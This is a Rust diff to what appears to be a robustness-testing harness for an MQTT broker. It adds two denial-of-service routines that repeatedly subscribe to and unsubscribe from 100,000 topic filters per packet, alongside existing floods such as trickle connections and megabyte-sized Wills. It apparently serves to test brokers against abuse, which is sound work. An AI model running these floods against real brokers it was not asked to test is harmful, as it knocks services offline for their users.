@@ -2,7 +2,7 @@
 
 use super::Victim;
 use super::wire;
-use anyhow::Result;
+use anyhow::{Result, ensure};
 use std::io::Write;
 use std::net::TcpStream;
 use std::time::{Duration, Instant};
@@ -15,7 +15,7 @@ pub struct Attack {
     pub run: fn(&Victim) -> Result<String>,
 }
 
-pub const ATTACKS: [Attack; 10] = [
+pub const ATTACKS: [Attack; 12] = [
     Attack { name: "nothing", arguments: &[], run: nothing },
     Attack { name: "shapes", arguments: &[], run: shapes },
     Attack { name: "groups", arguments: &[], run: groups },
@@ -23,6 +23,8 @@ pub const ATTACKS: [Attack; 10] = [
     Attack { name: "silent-subscriber", arguments: &[], run: silent },
     Attack { name: "trickle", arguments: &[], run: trickle },
     Attack { name: "long-filters", arguments: &[], run: long_filters },
+    Attack { name: "many-filters", arguments: &[], run: many_filters },
+    Attack { name: "many-stored-filters", arguments: &[], run: many_stored_filters },
     Attack { name: "wills", arguments: &[], run: wills },
     Attack { name: "half-connects", arguments: &[], run: half_connects },
     Attack { name: "http-connections", arguments: &[], run: http_connections },
@@ -169,6 +171,34 @@ fn long_filters(victim: &Victim) -> Result<String> {
     }
     stay(victim, Duration::from_secs(1));
     Ok(format!("{sent} filters of 60 KB sent"))
+}
+
+/// Subscribes to as many filters as a client may have with one packet, and unsubscribes, again and again.
+fn many_filters(victim: &Victim) -> Result<String> {
+    subscribe_to_many(victim, 0)
+}
+
+/// An attack like [`many_filters`] with a durable session.
+fn many_stored_filters(victim: &Victim) -> Result<String> {
+    subscribe_to_many(victim, 3600)
+}
+
+fn subscribe_to_many(victim: &Victim, expiry: u32) -> Result<String> {
+    let mut stream = wire::connected(victim.mqtt, "hostile-filters", expiry, 100)?;
+    stream.set_read_timeout(Some(Duration::from_secs(30)))?;
+    let filters: Vec<String> = (0..100_000).map(|number| format!("{number:07}")).collect();
+    let filters = || filters.iter().map(String::as_str);
+    let (subscribe, unsubscribe) = (wire::subscribe(1, filters()), wire::unsubscribe(2, filters()));
+    let (began, mut times) = (Instant::now(), 0);
+    while victim.goes_on() && began.elapsed() < Duration::from_secs(5) {
+        for (packet, answer) in [(&subscribe, 0x90), (&unsubscribe, 0xb0)] {
+            stream.write_all(packet)?;
+            let first = wire::read_packet(&mut stream)?;
+            ensure!(first == answer, "{first:#04x} is the answer to {:#04x}", packet[0]);
+        }
+        times += 1;
+    }
+    Ok(format!("{times} times 100,000 filters at once"))
 }
 
 /// Makes sessions with Wills of nearly a megabyte.
